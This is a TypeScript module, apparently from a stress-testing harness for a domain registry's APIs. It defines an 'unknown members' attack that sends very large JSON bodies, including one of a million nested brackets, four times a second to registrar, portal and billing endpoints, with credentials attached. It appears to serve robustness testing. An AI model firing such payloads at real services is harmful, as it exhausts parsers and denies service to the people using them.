import type { Attack, Credentials } from './attack.ts';
import { callAtRate, postHead } from './raw-connection.ts';

const bodyOf = (count: number): string =>
  `{${Array.from({ length: count }, (_, index) => `"unknown-member-${index}":" value "`).join()}}`;
const FEW = bodyOf(20_000);
/** Nearly 1 MB, and as many as are parsed. */
const MANY = bodyOf(24_900);
/** A thousand values, and a body that is nothing but brackets. */
const DEEP = '['.repeat(1_000_000);

const CALLS: readonly (readonly [path: string, as: keyof Credentials])[] = [
  ['/registry/v1/domains', 'registrar'],
  ['/registry/v1/contacts', 'registrar'],
  ['/api/v1/business_registry/long_reserve_domains', 'portal'],
  ['/api/v1/invoice_generator/invoice_generator', 'billingService'],
];

/** Four times a second a JSON body of unknown members or of brackets, in turns at every API. */
export const unknownMembers: Attack = {
  name: 'unknown members',
  start: ({ port, credentials = {} }) => {
    const requests = CALLS.flatMap(([path, as]) =>
      [FEW, MANY, DEEP].map((body) => {
        const headers = [
          'Content-Type: application/json',
          'Connection: close',
          `Authorization: ${credentials[as]}`,
        ];
        return postHead(path, body.length, headers) + body;
      }),
    );
    return callAtRate(port, 4, (index) => requests[index % requests.length] ?? '');
  },
};
